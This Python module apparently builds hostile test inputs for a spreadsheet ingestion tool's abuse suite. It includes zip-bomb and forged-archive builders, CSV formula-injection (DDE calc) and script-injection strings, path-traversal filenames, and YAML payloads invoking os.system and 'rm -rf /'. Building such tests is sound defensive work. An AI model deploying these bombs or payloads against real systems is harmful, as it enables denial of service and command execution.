"""Hostile and broken inputs for the abuse suite, built at test time (only a few KB are committed).

Each ``Case`` is one input (file bytes, a name, and for spec cases the YAML text) plus the outcomes it
may have: ``ok`` (a preview) or the specific error codes a user could act on. ``internal-error`` is never
one of them.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from dataclasses import dataclass, field
from functools import cache
from pathlib import Path
from typing import Callable

import openpyxl

from tests.unit.readers import workbooks

ROOT = Path(__file__).resolve().parents[2]
ABUSE = ROOT / "tests" / "data" / "abuse"
XLSX = ROOT / "tests" / "data" / "workbench" / "programa_ejecucion_2017_abril.xlsx"
CSV = ROOT / "tests" / "data" / "workbench" / "ejecucion_2017_abril_pesos.csv"
MIB = 1024 * 1024

OK = "ok"
CORRUPT = frozenset({"workbook-corrupt", "file-format"})
ZIP_LIMIT = frozenset({"workbook-zip-limit"})


@dataclass(frozen=True)
class Case:
    id: str
    category: str
    filename: str
    build: Callable[[], bytes]
    expect: frozenset[str]
    spec: str | None = None  # spec YAML (engine: parse_spec + preview; API: the YAML uploaded as a file)
    dataset: str | None = None  # a hostile `dataset` form field (engine: find_spec(..., slug_only=True))
    params: str | None = None  # a hostile `params` form field (engine: the same value as one parameter)
    api_expect: frozenset[str] | None = None  # when the API's outcome differs (the spec is not uploaded)
    tags: tuple[str, ...] = field(default_factory=tuple)


# --- zip building blocks -----------------------------------------------------------------------------


def deflate(data: bytes) -> bytes:
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


@cache
def deflate_zeros(size: int) -> tuple[bytes, int]:
    """A raw deflate stream of ``size`` zero bytes and its CRC, built in well under a second: one 16 MiB
    piece ending in a full flush has no back-references before its start, so copies of it chain validly."""
    piece_len = 16 * MIB
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = c.compress(bytes(piece_len)) + c.flush(zlib.Z_FULL_FLUSH)
    count, rest = divmod(size, piece_len)
    tail = zlib.compressobj(9, zlib.DEFLATED, -15)
    stream = piece * count + tail.compress(bytes(rest)) + tail.flush()
    crc, zero_piece = 0, bytes(piece_len)
    for _ in range(count):
        crc = zlib.crc32(zero_piece, crc)
    return stream, zlib.crc32(bytes(rest), crc)


@dataclass
class Entry:
    name: str
    payload: bytes  # as stored (compressed for method 8)
    size: int  # declared uncompressed size
    crc: int
    method: int = 8
    flags: int = 0
    same_data_as: str | None = None  # overlapping entries: point at another entry's local header


def entry(name: str, data: bytes, method: int = 8) -> Entry:
    return Entry(name, deflate(data) if method == 8 else data, len(data), zlib.crc32(data), method)


def write_zip(entries: list[Entry], *, eocd_count: int | None = None) -> bytes:
    """A zip written by hand, so sizes, methods, flags and offsets can lie."""
    out = io.BytesIO()
    offsets: dict[str, int] = {}
    for e in entries:
        if e.same_data_as is not None:
            offsets[e.name] = offsets[e.same_data_as]
            continue
        offsets[e.name] = out.tell()
        name = e.name.encode()
        out.write(struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, e.flags, e.method, 0, 33, e.crc,
                              len(e.payload), e.size, len(name), 0))
        out.write(name + e.payload)
    start = out.tell()
    by_name = {e.name: e for e in entries}
    for e in entries:
        name = e.name.encode()
        payload = by_name[e.same_data_as].payload if e.same_data_as else e.payload
        out.write(struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, e.flags, e.method, 0, 33, e.crc,
                              len(payload), e.size, len(name), 0, 0, 0, 0, 0, offsets[e.name]))
        out.write(name)
    size = out.tell() - start
    count = len(entries) if eocd_count is None else eocd_count
    out.write(struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, min(count, 0xFFFF), min(count, 0xFFFF), size, start, 0))
    return out.getvalue()


@cache
def small_xlsx() -> bytes:
    return workbooks.xlsx({"Datos": {"A1": "Subt.", "B1": "Monto", "A2": "21", "B2": "100"}})


def xlsx_parts(data: bytes | None = None) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data or small_xlsx())) as z:
        return {i.filename: z.read(i) for i in z.infolist()}


def xlsx_with(*replace: Entry, drop: tuple[str, ...] = (), extra: list[Entry] | None = None,
              eocd_count: int | None = None) -> bytes:
    """The small workbook with some parts replaced (same name) or added."""
    parts = [entry(n, d) for n, d in xlsx_parts().items() if n not in drop]
    by_name = {e.name: e for e in replace}
    parts = [by_name.pop(p.name, p) for p in parts] + list(by_name.values()) + list(extra or [])
    return write_zip(parts, eocd_count=eocd_count)


def zeros_entry(name: str, size: int) -> Entry:
    stream, crc = deflate_zeros(size)
    return Entry(name, stream, size, crc)


@cache
def ods_parts() -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(workbooks.ods([["a", "b"], ["1", "2"]]))) as z:
        return {i.filename: z.read(i) for i in z.infolist()}


def ods_with(**content: bytes) -> bytes:
    parts = dict(ods_parts())
    parts.update({k.replace("__", "/"): v for k, v in content.items()})
    return write_zip([entry(n, d, 0 if n == "mimetype" else 8) for n, d in parts.items()])


def sheet_xml(cells: str) -> bytes:
    return (b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
            b'spreadsheetml/2006/main"><sheetData>' + cells.encode() + b"</sheetData></worksheet>")


def far_cells(*refs: str) -> bytes:
    cells = "".join(f'<row r="{"".join(ch for ch in r if ch.isdigit())}"><c r="{r}" t="inlineStr"><is><t>x</t></is>'
                    f"</c></row>" for r in refs)
    return xlsx_with(entry("xl/worksheets/sheet1.xml", sheet_xml(cells)))


def merged_everything() -> bytes:
    cells = '<row r="1"><c r="A1" t="inlineStr"><is><t>x</t></is></c></row>'
    xml = sheet_xml(cells).replace(b"</sheetData>", b'</sheetData><mergeCells count="1"><mergeCell '
                                                   b'ref="A1:XFD1048576"/></mergeCells>')
    return xlsx_with(entry("xl/worksheets/sheet1.xml", xml))


def ods_repeated(rows: int, cols: int) -> bytes:
    content = ods_parts()["content.xml"].decode()
    cell = (f'<table:table-cell table:number-columns-repeated="{cols}" office:value-type="string">'
            f"<text:p>x</text:p></table:table-cell>")
    row = f'<table:table-row table:number-rows-repeated="{rows}">{cell}</table:table-row>'
    return ods_with(**{"content.xml": content.replace("<table:table-row>", row + "<table:table-row>", 1).encode()})


def overlapping_total() -> bytes:
    """Fifield-style: 25 directory entries share one local file; each declares 15 MB at 150:1, so no entry
    trips the ratio limit, but together they claim 375 MB."""
    data = random.Random(7).randbytes(100_000)
    base = Entry("xl/media/blob0.bin", deflate(data), 0, zlib.crc32(data))
    base.size = len(base.payload) * 150
    shared = [Entry(f"xl/media/blob{i}.bin", b"", base.size, base.crc, same_data_as=base.name) for i in range(1, 25)]
    return xlsx_with(extra=[base, *shared])


def lying_sheet() -> bytes:
    """The sheet declares 2 KB but inflates to 64 MiB: under the ratio limit on paper."""
    stream, crc = deflate_zeros(64 * MIB)
    return xlsx_with(Entry("xl/worksheets/sheet1.xml", stream, 2048, crc))


def lying_strings() -> bytes:
    stream, crc = deflate_zeros(32 * MIB)
    return xlsx_with(extra=[Entry("xl/sharedStrings.xml", stream, 1024, crc)])


def many_entries(n: int = 10_001) -> bytes:
    return xlsx_with(extra=[Entry(f"xl/x/{i}", b"", 0, 0, method=0) for i in range(n)])


def method_entry(method: int = 12, flags: int = 0) -> bytes:
    return xlsx_with(extra=[Entry("xl/odd.bin", b"BZh91AY&SY", 10, 0, method=method, flags=flags)])


def xlsx_cells(cells: dict[str, object], title: str = "Datos") -> bytes:
    return workbooks.xlsx({title: cells})


def wide_xlsx(columns: int) -> bytes:
    book = openpyxl.Workbook(write_only=True)
    sheet = book.create_sheet("Ancha")
    sheet.append([f"c{j}" for j in range(columns)])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def truncated(data: bytes, fraction: float) -> bytes:
    return data[: max(1, int(len(data) * fraction))]


def mutated(data: bytes, changes: dict[int, int]) -> bytes:
    out = bytearray(data)
    for position, value in changes.items():
        out[position] = value
    return bytes(out)


def randomly_mutated(data: bytes, seed: int) -> bytes:
    """Up to 20 random bytes changed: how the fuzzing that found calamine's aborts on .xls started."""
    rng = random.Random(seed)
    return mutated(data, {rng.randrange(len(data)): rng.randrange(256) for _ in range(rng.randint(1, 20))})


def ole_encrypted_minimal() -> bytes:
    """A 1.5 KB OLE compound file whose directory names an ``EncryptedPackage`` stream (what Office writes
    for a password-protected .xlsx)."""
    header = bytearray(512)
    header[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHH", header, 24, 0x3E, 3, 0xFFFE, 9)
    directory = bytearray(512)
    for i, name in enumerate(("Root Entry", "EncryptedPackage", "EncryptionInfo")):
        encoded = name.encode("utf-16-le") + b"\x00\x00"
        directory[i * 128 : i * 128 + len(encoded)] = encoded
        struct.pack_into("<H", directory, i * 128 + 64, len(encoded))
        directory[i * 128 + 66] = 5 if i == 0 else 2
    return bytes(header) + bytes(directory) + bytes(512)


# --- specs -------------------------------------------------------------------------------------------

SPEC_HEAD = "dataset:\n  slug: abuso\n  title: Abuso\nsource:\n  header:\n    row: 1\nlayers:\n  bronze:\n"


def spec_steps(n: int) -> str:
    return SPEC_HEAD + "    - type: strip\n" * n


def deep(n: int, flow_map: bool = False) -> str:
    return "dataset: " + ("{a: " * n + "1" + "}" * n if flow_map else "[" * n + "]" * n) + "\n"


LAUGHS = "a: &a [lol,lol,lol,lol,lol,lol,lol,lol,lol]\n" + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [{','.join(['*' + chr(97 + i)] * 9)}]\n" for i in range(8)) + "dataset: *i\n"


# --- CSV payloads ------------------------------------------------------------------------------------

FORMULAS = {
    "dde_cmd": "=cmd|' /C calc'!A0",
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "hyperlink": '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    "cr": "\r=1+1",
}
SCRIPT = "<script>alert(1)</script>"


def csv_with(cell: str, *, quote: bool = False) -> bytes:
    value = '"' + cell.replace('"', '""') + '"' if quote or any(c in cell for c in ';"\r\n') else cell
    return f"Partida;Monto\n{value};100\nB;200\n".encode()


def _b(text: str, encoding: str = "utf-8") -> Callable[[], bytes]:
    return lambda: text.encode(encoding)


def _f(path: Path) -> Callable[[], bytes]:
    return path.read_bytes


# --- the cases -----------------------------------------------------------------------------------------


def cases() -> list[Case]:
    out: list[Case] = []

    def add(id: str, category: str, filename: str, build: Callable[[], bytes], expect: set[str] | frozenset[str],
            **kw: object) -> None:
        out.append(Case(id, category, filename, build, frozenset(expect), **kw))  # type: ignore[arg-type]

    # zip bombs and forged archives
    add("bomb-sheet-1gb-zeros", "zip-bomb", "bomba.xlsx", lambda: xlsx_with(zeros_entry("xl/worksheets/sheet1.xml",
        1024 * MIB)), ZIP_LIMIT)
    add("bomb-shared-strings", "zip-bomb", "bomba.xlsx", lambda: xlsx_with(extra=[zeros_entry("xl/sharedStrings.xml",
        256 * MIB)]), ZIP_LIMIT)
    add("bomb-content-types", "zip-bomb", "bomba.xlsx", lambda: xlsx_with(zeros_entry("[Content_Types].xml",
        128 * MIB)), ZIP_LIMIT)
    add("bomb-ods-content", "zip-bomb", "bomba.ods", lambda: write_zip(
        [entry("mimetype", ods_parts()["mimetype"], 0), zeros_entry("content.xml", 512 * MIB)]), ZIP_LIMIT)
    add("bomb-ods-mimetype", "zip-bomb", "bomba.ods", lambda: write_zip([zeros_entry("mimetype", 64 * MIB)]),
        ZIP_LIMIT)
    add("bomb-many-entries", "zip-bomb", "muchas.xlsx", many_entries, ZIP_LIMIT)
    add("bomb-eocd-count", "zip-bomb", "cuenta.xlsx", lambda: xlsx_with(eocd_count=65_535), ZIP_LIMIT | CORRUPT)
    add("bomb-overlapping-total", "zip-bomb", "solapada.xlsx", overlapping_total, ZIP_LIMIT)
    add("bomb-lying-sheet-size", "zip-bomb", "mentirosa.xlsx", lying_sheet, ZIP_LIMIT)
    add("bomb-lying-strings-size", "zip-bomb", "mentirosa.xlsx", lying_strings, ZIP_LIMIT)
    add("zip-bzip2-method", "zip-bomb", "bzip2.xlsx", method_entry, ZIP_LIMIT)
    add("zip-encrypted-entry", "zip-bomb", "cifrada.xlsx", lambda: method_entry(8, 1), ZIP_LIMIT)
    add("sheet-far-cells", "zip-bomb", "lejana.xlsx", lambda: far_cells("A1", "XFD1048576"), {"too-many-columns"})
    add("sheet-far-rows", "zip-bomb", "lejana.xlsx", lambda: far_cells("A1", "J1048576"), {"too-many-cells"})
    add("sheet-far-column-only", "zip-bomb", "lejana.xlsx", lambda: far_cells("A1", "ZZZ1"), {"too-many-columns"})
    add("sheet-merged-everything", "zip-bomb", "fusion.xlsx", merged_everything, {"too-many-columns"},
        spec=SPEC_HEAD.replace("  header:", "  fill_merged: true\n  header:") + "    - type: strip\n",
        api_expect=frozenset({OK}))
    add("ods-repeated-cells", "zip-bomb", "repetida.ods", lambda: ods_repeated(10_000, 2_000), {"too-many-cells"})
    add("ods-repeated-ok", "zip-bomb", "repetida.ods", lambda: ods_repeated(100, 10), {OK})

    # truncated and damaged workbooks
    for fraction in (0.01, 0.05, 0.1, 0.25, 0.5, 0.75, 0.9, 0.99, 0.999):
        add(f"truncated-xlsx-{fraction}", "truncated", "cortado.xlsx", lambda f=fraction: truncated(XLSX.read_bytes(),
            f), CORRUPT)
    for fraction in (0.1, 0.5, 0.95):
        add(f"truncated-ods-{fraction}", "truncated", "cortado.ods", lambda f=fraction: truncated(
            workbooks.ods([["a", "b"], ["1", "2"]]), f), CORRUPT)
        add(f"truncated-xls-{fraction}", "truncated", "cortado.xls", lambda f=fraction: truncated(
            (ABUSE / "base.xls").read_bytes(), f), CORRUPT)
    add("xls-dimensions-inverted", "truncated", "dim.xls", lambda: mutated((ABUSE / "base.xls").read_bytes(),
        {18226: 152}), CORRUPT)  # first row above the last: calamine reserved 1.7 TB and aborted the process
    for seed in range(6):
        add(f"xls-mutated-{seed}", "truncated", "mutado.xls", lambda s=seed: randomly_mutated(
            (ABUSE / "base.xls").read_bytes(), s), CORRUPT | {OK, "sheet-not-found", "too-many-cells"})
    add("xlsx-without-sheets", "truncated", "vacio.xlsx", lambda: xlsx_with(drop=("xl/worksheets/sheet1.xml",)),
        CORRUPT | {"sheet-not-found"})
    add("xlsx-garbage-sheet-xml", "truncated", "basura.xlsx", lambda: xlsx_with(entry("xl/worksheets/sheet1.xml",
        b"<worksheet><sheetData><row><c><v>1</v></c></row>" + bytes(range(256)) * 10)), CORRUPT | {OK})
    add("xlsx-bad-crc", "truncated", "crc.xlsx", lambda: xlsx_with(Entry("xl/workbook.xml",
        deflate(xlsx_parts()["xl/workbook.xml"]), len(xlsx_parts()["xl/workbook.xml"]), 12345)), CORRUPT | {OK})
    add("xlsx-bad-deflate", "truncated", "inflate.xlsx", lambda: xlsx_with(Entry("xl/workbook.xml", b"\xff" * 64,
        100, 0)), CORRUPT)

    # encrypted workbooks
    for name in ("password.xlsx", "password.xls", "password.ods", "password.xlsb"):
        add(f"encrypted-{name}", "encrypted", name, _f(ABUSE / name), {"workbook-encrypted"})
    add("encrypted-minimal-ole", "encrypted", "cifrado.xlsx", ole_encrypted_minimal, {"workbook-encrypted"})

    # not data at all
    add("empty", "not-data", "vacio.csv", lambda: b"", {"file-empty"})
    add("html-as-csv", "not-data", "pagina.csv", _b("<!DOCTYPE html><html><body>Error 404</body></html>"),
        {"file-format"})
    add("html-bom-space", "not-data", "pagina.csv", lambda: b"\xef\xbb\xbf \n\t<html><head></head></html>",
        {"file-format"})
    add("xml-as-xls", "not-data", "planilla.xls", _b('<?xml version="1.0"?><Workbook></Workbook>'), {"file-format"})
    add("pdf", "not-data", "informe.csv", lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n",
        {"file-format"})
    for seed in range(5):
        add(f"random-binary-{seed}", "not-data", "aleatorio.csv", lambda s=seed: random.Random(s).randbytes(50_000),
            {"file-format", "file-encoding", OK})
    add("random-after-pk", "not-data", "falso.xlsx", lambda: b"PK\x03\x04" + random.Random(9).randbytes(5000),
        CORRUPT)
    add("png", "not-data", "foto.csv", lambda: b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(100), {"file-format"})
    add("gzip", "not-data", "datos.csv", lambda: b"\x1f\x8b\x08\x00" + bytes(100), {"file-format"})
    add("elf", "not-data", "programa.csv", lambda: b"\x7fELF\x02\x01\x01" + bytes(200), {"file-format"})
    add("docx", "not-data", "carta.xlsx", lambda: workbooks.zip_of({"word/document.xml": b"<w/>"}), {"file-format"})
    add("zip-of-csvs", "not-data", "datos.zip", lambda: workbooks.zip_of({"a.csv": b"a;b\n1;2\n"}), {"file-format"})
    add("xlsb-in-zip", "not-data", "binario.xlsb", lambda: workbooks.zip_of({"xl/workbook.bin": b"\x00"}),
        {"file-format"})
    add("ole-word", "not-data", "carta.xls", lambda: ole_encrypted_minimal().replace(
        "EncryptedPackage".encode("utf-16-le"), "WordDocument\0\0\0\0".encode("utf-16-le")), CORRUPT)

    # encodings
    add("utf16le-no-bom", "encoding", "utf16.csv", _b("Partida;Monto\nA;1\n", "utf-16-le"), {"file-format"})
    add("utf16-bom", "encoding", "utf16.csv", _b("Partida;Monto\nAño;1\n", "utf-16"), {OK})
    add("utf32-bom", "encoding", "utf32.csv", _b("Partida;Monto\nAño;1\n", "utf-32"), {OK})
    add("mixed-utf8-latin1", "encoding", "mixto.csv", lambda: "Año;Monto\n".encode() + "Añó;1\n".encode("latin-1"),
        {OK})
    add("invalid-utf8-declared", "encoding", "malo.csv", lambda: b"Partida;Monto\nA\xff\xfe;1\n", {"file-encoding"},
        spec=SPEC_HEAD.replace("source:\n", "source:\n  encoding: utf-8\n") + "    - type: strip\n",
        api_expect=frozenset({OK}))
    add("cesu-surrogates", "encoding", "cesu.csv", lambda: b"Partida;Monto\n\xed\xa0\x80\xed\xb0\x80;1\n", {OK})
    add("bom-only", "encoding", "bom.csv", lambda: b"\xef\xbb\xbf", {OK, "header-row-missing"})
    add("overlong-utf8", "encoding", "overlong.csv", lambda: b"a;b\n\xc0\xaf;\xe0\x80\xaf\n", {OK})
    add("unknown-encoding-spec", "encoding", "x.csv", lambda: b"a;b\n1;2\n", {"spec-invalid"},
        spec=SPEC_HEAD.replace("source:\n", "source:\n  encoding: klingon-8\n") + "    - type: strip\n",
        api_expect=frozenset({OK}))

    # size: columns, cells, rows, lines
    add("csv-10k-columns", "size", "ancha.csv", lambda: (";".join(f"c{j}" for j in range(10_000)) + "\n").encode() * 3,
        {"too-many-columns"})
    add("xlsx-10k-columns", "size", "ancha.xlsx", lambda: wide_xlsx(10_000), {"too-many-columns"})
    add("csv-2001-columns-late", "size", "ancha.csv", lambda: b"a;b\n1;2\n" * 50 + b";" * 2000 + b"\n",
        {"too-many-columns"})
    add("csv-1mb-cell", "size", "celda.csv", lambda: csv_with("x" * MIB), {"cell-too-long"})
    add("csv-1mb-quoted-cell", "size", "celda.csv", lambda: csv_with('"' + "y\n" * (MIB // 2), quote=True),
        {"cell-too-long"})
    add("csv-1mb-multibyte-cell", "size", "celda.csv", lambda: csv_with("ñ" * (MIB // 2)), {"cell-too-long"})
    add("csv-cell-at-limit", "size", "celda.csv", lambda: csv_with("ñ" * 32_767), {OK})
    add("xlsx-1mb-cell", "size", "celda.xlsx", lambda: xlsx_with(entry("xl/worksheets/sheet1.xml", sheet_xml(
        '<row r="1"><c r="A1" t="inlineStr"><is><t>' + "".join(random.Random(3).choices("abcdefghij", k=MIB))
        + "</t></is></c></row>"))), {"cell-too-long"})
    add("xlsx-1mb-cell-openpyxl", "size", "celda.xlsx", lambda: xlsx_cells({"A1": "Partida", "A2": "z" * MIB}),
        {OK})  # openpyxl/calamine keep Excel's 32,767 characters
    add("csv-2m-rows", "size", "larga.csv", lambda: b"a\n" * 2_000_001, {"too-many-rows"})
    add("csv-5mb-line", "size", "linea.csv", lambda: b"q" * (5 * MIB), {"cell-too-long"})
    add("csv-3m-delimiters", "size", "delims.csv", lambda: b";" * (3 * MIB), {"too-many-columns"})
    add("csv-1m-empty-lines", "size", "vacias.csv", lambda: b"a;b\n" + b"\n" * MIB, {OK})
    add("csv-1m-cr", "size", "cr.csv", lambda: b"a;b\r" + b"\r" * MIB + b"1;2\r", {OK})
    add("csv-whitespace-lines", "size", "blancos.csv", lambda: b"a;b\n" + b" \r\n" * 200_000, {OK})
    add("csv-ragged", "size", "irregular.csv", lambda: b"".join(b";" * (i % 50) + b"x\n" for i in range(100_000)), {OK})
    add("csv-2000-same-header", "size", "repetida.csv", lambda: (";".join(["col"] * 2000) + "\n").encode() * 2, {OK})

    # CSV structure
    add("csv-nul-early", "csv", "nul.csv", lambda: b"a;b\n1;\x002\n", {"file-format"})
    add("csv-nul-late", "csv", "nul.csv", lambda: b"a;b\n" + b"1;2\n" * 20_000 + b"3;\x004\n", {OK})
    add("csv-unterminated-quote", "csv", "comillas.csv", lambda: b'a;b\n"1;2\n3;4\n5;6\n', {"file-format"})
    add("csv-quote-storm", "csv", "comillas.csv", lambda: b'"' * 200_001, {OK, "file-format", "cell-too-long"})
    add("csv-quoted-newlines", "csv", "comillas.csv", lambda: b'a;b\n"x\n' * 1000 + b'";1\n', {OK, "file-format"})
    add("csv-only-delimiters", "csv", "delims.csv", lambda: b";;;;\n;;;;\n", {OK})
    add("csv-mixed-line-ends", "csv", "fin.csv", lambda: b"a;b\r\n1;2\r3;4\n5;6\r\n", {OK})
    add("csv-backslash-escapes", "csv", "esc.csv", lambda: b'a;b\n\\";\\\\\n', {OK})
    add("csv-control-chars", "csv", "ctrl.csv", lambda: b"a;b\n\x01\x02\x1b[31m;\x7f\n", {OK})
    add("csv-bidi-override", "csv", "bidi.csv", _b("a;b\n\u202egnp.exe;\u200b\n"), {OK})
    add("csv-huge-number", "csv", "numero.csv", lambda: b"a;b\n" + b"9" * 30_000 + b";1e999999\n", {OK})

    # formula payloads (and the exports that must neutralise them: test_exports.py)
    for name, payload in FORMULAS.items():
        add(f"formula-{name}", "formula", "formula.csv", lambda p=payload: csv_with(p), {OK})
    add("formula-xlsx-cells", "formula", "formula.xlsx", lambda: xlsx_cells({"A1": "Partida", "A2": "=1+1",
        "A3": "=cmd|' /C calc'!A0"}), {OK})

    # markup and names
    add("script-in-cell", "markup", "script.csv", lambda: csv_with(SCRIPT), {OK})
    add("script-in-header", "markup", "script.csv", lambda: f"{SCRIPT};b\n1;2\n".encode(), {OK})
    add("img-onerror-cell", "markup", "img.csv", lambda: csv_with('"><img src=x onerror=alert(1)>'), {OK})
    add("script-sheet-name", "markup", "hoja.xlsx", lambda: xlsx_cells({"A1": "a", "A2": "1"}, title="<img src=x onerror=alert(1)>"),
        {OK})
    add("script-filename", "markup", f"{SCRIPT}.csv", lambda: csv_with("1"), {OK})
    for i, name in enumerate(["../../etc/passwd", "/etc/passwd", "C:\\Windows\\win.ini", "..\\..\\boot.ini.csv",
                              "a\x00b.csv", "x" * 10_000 + ".csv", "\u202egnp.csv", "", ".", "..",
                              "a\r\nX-Evil: 1.csv", "dir/./../x.csv"]):
        # the API may refuse a name the multipart parser cannot carry (empty: no file part; 10,000 characters)
        add(f"filename-{i}", "names", name, lambda: csv_with("1"), {OK}, api_expect=frozenset({OK, "upload-invalid"}))

    # hostile form fields (dataset, params)
    add("dataset-traversal", "fields", "x.csv", lambda: csv_with("1"), {"spec-not-found"},
        dataset="../../../etc/passwd")
    add("dataset-abs-yaml", "fields", "x.csv", lambda: csv_with("1"), {"spec-not-found"}, dataset="@OUTSIDE_YAML@")
    add("dataset-script", "fields", "x.csv", lambda: csv_with("1"), {"spec-not-found"}, dataset=SCRIPT)
    add("dataset-10k", "fields", "x.csv", lambda: csv_with("1"), {"spec-not-found"}, dataset="a" * 10_000)
    add("params-bigint", "fields", "ejecucion_2017_abril_pesos.csv", CSV.read_bytes, {"parameter-invalid"},
        dataset="dipres_ejecucion", params='{"anio": 1' + "0" * 5000 + "}")
    add("params-deep-json", "fields", "ejecucion_2017_abril_pesos.csv", CSV.read_bytes, {"parameter-invalid"},
        dataset="dipres_ejecucion", params='{"anio": ' + "[" * 100_000 + "]" * 100_000 + "}")
    add("params-script", "fields", "ejecucion_2017_abril_pesos.csv", CSV.read_bytes, {"parameter-invalid"},
        dataset="dipres_ejecucion", params=f'{{"anio": "{SCRIPT}"}}')

    # specs (engine: the YAML as a spec; API: the same text uploaded as a data file)
    specs = {
        "python-object": "dataset: !!python/object/apply:os.system ['echo pwned']\n",
        "python-name": "dataset: !!python/name:os.system\n",
        "billion-laughs": LAUGHS,
        "deep-500": deep(500),
        "deep-map-900": deep(900, flow_map=True),
        "deep-10k": deep(10_000),
        "bigint": SPEC_HEAD.replace("row: 1", "row: 1" + "0" * 5000) + "    - type: strip\n",
        "bad-timestamp": "dataset:\n  slug: 2001-13-45\n",
        "steps-10k": spec_steps(10_000),
        "over-1mb": SPEC_HEAD + "    - type: strip\n" + "# " + "x" * 1_100_000 + "\n",
        "nul": "dataset:\x00 x\n",
        "tabs": "dataset:\n\tslug: x\n",
        "dup-keys": "dataset:\n" + "  slug: x\n" * 1000,
        "merge-key": "base: &b {slug: x}\ndataset:\n  <<: *b\n",
        "binary": "dataset: !!binary AAAA\n",
        "unknown-step": SPEC_HEAD + "    - type: exec\n      command: rm -rf /\n",
        "huge-scalar": "dataset:\n  slug: " + "x" * 900_000 + "\n",
        "many-aliases": "a: &a x\n" + "".join(f"k{i}: *a\n" for i in range(10_000)),
        "not-a-mapping": "- just\n- a\n- list\n",
        "empty": "",
    }
    for name, text in specs.items():
        add(f"spec-{name}", "spec", f"spec-{name}.csv", lambda t=text: t.encode("utf-8", "surrogatepass"),
            {"spec-invalid"}, spec=text, api_expect=frozenset({OK, "file-format", "file-empty", "cell-too-long"}))
    return out


CASES = cases()
